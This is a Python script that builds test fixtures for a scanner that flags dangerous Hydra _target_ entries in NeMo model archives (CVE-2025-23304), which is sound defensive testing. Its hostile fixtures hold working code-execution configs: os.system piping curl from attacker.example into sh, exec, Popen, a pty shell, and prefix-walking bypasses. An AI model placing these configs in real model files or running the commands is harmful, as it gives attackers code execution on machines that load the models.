#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Write the NeMo fixtures of this folder and expected.tsv.

A .nemo file is a tar (NeMo's SaveRestoreConnector writes it with tarfile, members under
"./") holding model_config.yaml and model_weights.ckpt. Benign configs use the Hydra
_target_ entries of NeMo's own model configs; hostile ones name callables that run code
when hydra.utils.instantiate builds the model (CVE-2025-23304).
Run from anywhere: python3 gen-nemo.py [OUTDIR]
"""
import io
import os
import shutil
import sys
import tarfile

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
rows = []

ASR = """\
sample_rate: 16000
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
nemo_version: 1.20.0
tokenizer:
  dir: tokenizers/tokenizer_spe_unigram_v128
  type: bpe
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  normalize: per_feature
  window_size: 0.025
  features: 80
spec_augment:
  _target_: nemo.collections.asr.modules.SpectrogramAugmentation
  freq_masks: 2
  time_masks: 10
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
  n_layers: 2
  d_model: 176
  activation:
    _target_: torch.nn.SiLU
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  feat_in: 176
  num_classes: 128
optim:
  name: adamw
  lr: 2.0
  betas: [0.9, 0.98]
  sched:
    name: NoamAnnealing
    warmup_steps: 10000
train_ds:
  manifest_filepath: null
  batch_size: 16
  shuffle: true
defaults: &defaults
  use_start_end_token: false
validation_ds:
  <<: *defaults
  manifest_filepath: null
"""


def nemo(name, config, rules, mode="w:", extra=None):
    members = {"./model_config.yaml": config.encode(),
               "./model_weights.ckpt": b"\0" * 64}
    members.update(extra or {})
    with tarfile.open(os.path.join(OUT, name), mode, format=tarfile.PAX_FORMAT) as t:
        for n, data in members.items():
            info = tarfile.TarInfo(n)
            info.size = len(data)
            info.mtime = 1700000000
            t.addfile(info, io.BytesIO(data))
    if mode.endswith("gz"):
        # gzip records when it ran (bytes 4-7 of its header); zero, as gzip -n writes.
        with open(os.path.join(OUT, name), "r+b") as f:
            f.seek(4)
            f.write(b"\0\0\0\0")
    rows.append((name, rules))


def bad(extra):
    return ASR + extra


# ---- benign ----
nemo("ok_asr.nemo", ASR, "-")
nemo("ok_asr_gz.nemo", ASR, "-", mode="w:gz")

# ---- hostile ----
nemo("target_os_system.nemo", bad("""\
callbacks:
  - _target_: os.system
    _args_: ["curl -s https://attacker.example/x | sh"]
"""), "nemo.target.denied")
nemo("target_builtins_exec.nemo", bad("""\
hook:
  _target_: builtins.exec
  _args_:
    - "import socket,subprocess;subprocess.call(['id'])"
"""), "nemo.target.denied")
nemo("target_partial.nemo", bad("""\
later:
  _target_: subprocess.Popen
  _partial_: true
  args: [id]
"""), "nemo.target.denied")
nemo("target_indirect.nemo", bad("""\
loader:
  _target_: hydra.utils.get_method
  path: posix.system
"""), "nemo.target.denied")
nemo("target_alias.nemo", "cmd: &c os.popen\n" + bad("""\
x:
  _target_: *c
  cmd: id
"""), "nemo.target.denied")
nemo("target_deep.nemo", bad("""\
a:
  b:
    - c:
        d:
          - e:
              _target_: runpy.run_path
              path_name: /tmp/x.py
"""), "nemo.target.denied")
nemo("target_unknown.nemo", bad("""\
extra:
  _target_: somevendor.plugins.Loader
"""), "nemo.target.untrusted")
nemo("target_torch_load.nemo", bad("""\
init:
  _target_: torch.load
  f: /tmp/evil.pt
"""), "nemo.target.denied")
nemo("target_gz.nemo", bad("""\
cb:
  _target_: os.system
  _args_: [id]
"""), "nemo.target.denied", mode="w:gz")
# (issue 8) The whole dotted path is resolved as the pickle policy resolves a name: an
# allowed prefix does not cover a path that walks on into another module or past a class.
nemo("walk_prefix_os_system.nemo", bad("""\
cb:
  _target_: nemo.collections.asr.models.os.system
  _args_: [id]
"""), "nemo.target.denied")
nemo("walk_prefix_torch_load.nemo", bad("""\
init:
  _target_: torch.nn.modules.module.torch.load
  f: /tmp/evil.pt
"""), "nemo.target.denied")
nemo("walk_prefix_typing.nemo", bad("""\
hints:
  _target_: nemo.core.classes.common.typing.get_type_hints
  obj: x
"""), "nemo.target.denied")
nemo("walk_prefix_dunder.nemo", bad("""\
x:
  _target_: nemo.utils.__builtins__.eval
  _args_: ["1"]
"""), "nemo.target.denied")
nemo("walk_past_class.nemo", bad("""\
m:
  _target_: nemo.collections.asr.models.EncDecCTCModel.from_pretrained
  model_name: stt_en_conformer_ctc_small
"""), "nemo.target.untrusted")
nemo("reexport_partial.nemo", bad("""\
norm:
  _target_: torchvision.models.resnet.partial
  _args_: [x]
"""), "nemo.target.denied")
nemo("reexport_model_zoo.nemo", bad("""\
w:
  _target_: torch.utils.model_zoo.load_url
  url: http://example.invalid/w.pt
"""), "nemo.target.denied")
nemo("yaml_invalid.nemo", ASR + "broken: [unclosed\n  - x: {\n", "nemo.config.invalid")
nemo("yaml_deep.nemo", "a: " + "[" * 100 + "]" * 100 + "\n", "nemo.config.invalid")

d = os.path.join(OUT, "plain_dir")
shutil.rmtree(d, ignore_errors=True)
os.makedirs(d)
with open(os.path.join(d, "model_config.yaml"), "w") as f:
    f.write(bad("cb:\n  _target_: pty.spawn\n  argv: /bin/sh\n"))
rows.append(("plain_dir", "nemo.target.denied"))

# Hydra _target_ in any YAML config, not only a .nemo's model_config.yaml: a Hydra run's
# config.yaml, a Lightning hparams.yaml.
for name, files, rules in [
        ("hydra_dir", {"conf/config.yaml": "model:\n  _target_: os.system\n  _args_: [id]\n",
                       "ci.yml": "on: push\njobs: {}\n"}, "nemo.target.denied"),
        ("hydra_hparams", {"hparams.yaml": "net:\n  _target_: torch.nn.Linear\n"
                           "  in_features: 4\nloader:\n  _target_: numpy.load\n"
                           "  file: x.npy\n  allow_pickle: true\n"}, "nemo.target.denied"),
        ("hydra_ok", {"config.yaml": "model:\n  _target_: torch.nn.Linear\n  in_features: 4\n"
                      "  out_features: 2\n", "workflow.yml": "name: ci\non: [push]\n"}, "-")]:
    d = os.path.join(OUT, name)
    shutil.rmtree(d, ignore_errors=True)
    for rel, text in files.items():
        os.makedirs(os.path.dirname(os.path.join(d, rel)), exist_ok=True)
        with open(os.path.join(d, rel), "w") as f:
            f.write(text)
    rows.append((name, rules))

with open(os.path.join(OUT, "expected.tsv"), "w") as f:
    f.write("# fixture\texpected rules (comma-separated), or - for nothing above info\n")
    for name, rules in rows:
        f.write("%s\t%s\n" % (name, rules))
